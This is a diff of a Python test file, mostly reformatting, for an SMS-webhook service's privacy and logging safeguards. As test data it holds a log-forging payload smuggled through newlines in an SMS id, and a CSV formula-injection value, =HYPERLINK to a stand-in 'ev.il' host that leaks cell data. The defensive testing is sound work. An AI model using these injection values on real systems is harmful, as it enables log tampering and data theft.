@@ -1,5 +1,6 @@
 """Personal data and logs: phones masked to the country code and 3 digits, instance/ and SQLite private, control
 characters escaped in log lines, no token in gunicorn's own log, no formula in a CSV export."""
+
 from __future__ import annotations
 
 import csv
@@ -29,16 +30,20 @@ LINE_START = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARN
 
 # Masking ---------------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("phone,masked", [
-    ("+6281234567890", "+62********890"),
-    ("+6591234567", "+65*****567"),
-    ("+85291234567", "+852*****567"),
-    ("+886912345678", "+886******678"),
-    ("+12025550123", "+1*******123"),
-    ("081234567890", "*********890"),
-    ("123456", "******"),
-    ("", ""),
-])
+
+@pytest.mark.parametrize(
+    "phone,masked",
+    [
+        ("+6281234567890", "+62********890"),
+        ("+6591234567", "+65*****567"),
+        ("+85291234567", "+852*****567"),
+        ("+886912345678", "+886******678"),
+        ("+12025550123", "+1*******123"),
+        ("081234567890", "*********890"),
+        ("123456", "******"),
+        ("", ""),
+    ],
+)
 def test_mask_keeps_the_country_code_and_the_last_three_digits(phone, masked):
     assert mask(phone) == masked
 
@@ -55,6 +60,7 @@ def test_a_conversation_logs_no_more_of_a_number_than_its_country_code_and_three
 
 
 # Files -----------------------------------------------------------------------------------------------------
+
 
 def _mode(path: Path) -> int:
     return stat.S_IMODE(path.stat().st_mode)
@@ -105,6 +111,7 @@ def test_a_world_readable_instance_from_before_is_made_private(fresh_instance, b
 
 # Control characters ----------------------------------------------------------------------------------------
 
+
 @pytest.fixture
 def log_lines(app):
     """Lines written by a root handler in the app's format that has the app's filter, as a function."""
@@ -126,12 +133,19 @@ FORGED = "2026-11-28 06:00:00,000 ERROR service.health: database unreachable"
 @pytest.mark.parametrize("separator", ["\n", "\r\n", "\r", "\u2028", "\x1b[2K\r"])
 def test_a_newline_in_an_sms_id_cannot_forge_a_log_line(client, log_lines, separator):
     provider_id = f"ATXid_1{separator}{FORGED}"
-    form = {"from": "+6281234567001", "to": SHORT_CODE, "text": "BANTUAN", "id": provider_id,
-            "date": "2026-11-28T06:04:45Z"}
+    form = {
+        "from": "+6281234567001",
+        "to": SHORT_CODE,
+        "text": "BANTUAN",
+        "id": provider_id,
+        "date": "2026-11-28T06:04:45Z",
+    }
     assert client.post(f"/webhooks/at/sms?token={TOKEN}", data=form).status_code == 200
     assert client.post(f"/webhooks/at/sms?token={TOKEN}", data=form).status_code == 200  # the replay logs the id
-    assert client.post(f"/webhooks/at/delivery?token={TOKEN}",
-                       data={"id": provider_id, "status": "Success"}).status_code == 200  # unknown id: logged
+    assert (
+        client.post(f"/webhooks/at/delivery?token={TOKEN}", data={"id": provider_id, "status": "Success"}).status_code
+        == 200
+    )  # unknown id: logged
 
     lines = log_lines()
     carrying = [line for line in lines if FORGED in line]
@@ -148,20 +162,35 @@ def test_escaping_keeps_letters_of_every_language():
 
 # gunicorn's own log ----------------------------------------------------------------------------------------
 
+
 def test_gunicorn_logs_a_malformed_request_line_without_its_token(tmp_path, redis_url, database_url):
     port = free_port()
     other_secret = "SECRET-not-the-configured-token-4711"
-    env = {**os.environ, "HOST": "127.0.0.1", "PORT": str(port), "WEB_CONCURRENCY": "1",
-           "INSTANCE_PATH": str(tmp_path), "DATABASE_URL": database_url, "REDIS_URL": redis_url,
-           "WEBHOOK_TOKEN": TOKEN}
-    process = subprocess.Popen([sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py", "service:create_app()"],
-                               cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    env = {
+        **os.environ,
+        "HOST": "127.0.0.1",
+        "PORT": str(port),
+        "WEB_CONCURRENCY": "1",
+        "INSTANCE_PATH": str(tmp_path),
+        "DATABASE_URL": database_url,
+        "REDIS_URL": redis_url,
+        "WEBHOOK_TOKEN": TOKEN,
+    }
+    process = subprocess.Popen(
+        [sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py", "service:create_app()"],
+        cwd=ROOT,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+    )
     output = OutputWatcher(process.stdout)
     try:
         assert output.wait_for(f"Listening at: http://127.0.0.1:{port}", timeout=20), output.text
-        for request in (f"GET /webhooks/at/sms?token={TOKEN} HTTP/1.1 junk\r\nHost: x\r\n\r\n",
-                        f"POST /webhooks/at/sms?token={other_secret}\x01 HTTP/1.1\r\nHost: x\r\n\r\n",
-                        f"GET /webhooks/at/sms?token={TOKEN}&x=\nforged HTTP/1.1\r\n\r\n"):
+        for request in (
+            f"GET /webhooks/at/sms?token={TOKEN} HTTP/1.1 junk\r\nHost: x\r\n\r\n",
+            f"POST /webhooks/at/sms?token={other_secret}\x01 HTTP/1.1\r\nHost: x\r\n\r\n",
+            f"GET /webhooks/at/sms?token={TOKEN}&x=\nforged HTTP/1.1\r\n\r\n",
+        ):
             with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                 sock.sendall(request.encode("latin-1"))
                 assert sock.recv(100).startswith(b"HTTP/1.1 400")
@@ -182,8 +211,9 @@ HYPERLINK = '=HYPERLINK("http://ev.il/"&A2)'
 
 
 def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(runner):
-    Person.create(phone="+6281234567004", name=HYPERLINK, village="+1", status="purna", country="hongkong",
-                  language="id")
+    Person.create(
+        phone="+6281234567004", name=HYPERLINK, village="+1", status="purna", country="hongkong", language="id"
+    )
     Person.create(phone="+85291234567", name="@SUM(1+1)", village="-2+3", status="aktif", language="id")
     Person.create(phone="+6281234567005", name="Siti - Aminah", village="Tracap", status="calon", language="id")
 
@@ -194,8 +224,9 @@ def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(runner):
     assert (rows["+85291234567"]["name"], rows["+85291234567"]["village"]) == ("'@SUM(1+1)", "'-2+3")
     assert (rows["+6281234567005"]["name"], rows["+6281234567005"]["village"]) == ("Siti - Aminah", "Tracap")
     assert set(rows) == {"+6281234567004", "+85291234567", "+6281234567005"}, "E.164 phones are kept as numbers"
-    assert not any(line.startswith(("=", "@", "-")) or ",=" in line or ",+1" in line
-                   for line in result.stdout.splitlines()[1:])
+    assert not any(
+        line.startswith(("=", "@", "-")) or ",=" in line or ",+1" in line for line in result.stdout.splitlines()[1:]
+    )
 
     records = json.loads(runner.invoke(args=["export", "people"]).stdout)
     assert {r["name"] for r in records} == {HYPERLINK, "@SUM(1+1)", "Siti - Aminah"}, "JSON is data, kept as stored"
